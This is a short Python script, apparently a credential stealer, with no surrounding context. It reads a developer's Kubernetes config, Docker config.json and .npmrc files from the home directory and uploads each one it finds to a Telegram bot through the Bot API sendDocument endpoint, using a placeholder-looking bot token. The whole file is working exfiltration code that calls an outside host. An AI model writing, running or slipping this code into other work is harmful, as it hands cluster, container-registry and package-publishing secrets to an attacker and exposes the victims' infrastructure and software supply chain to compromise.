import os, requests
TOKEN = "7000000000:AAExampleExampleExampleExampleExample"
def send(path):
    with open(path, "rb") as f:
        requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", data={"chat_id": 1}, files={"document": f})
for p in ("~/.kube/config", "~/.docker/config.json", "~/.npmrc"):
    p = os.path.expanduser(p)
    if os.path.isfile(p):
        send(p)
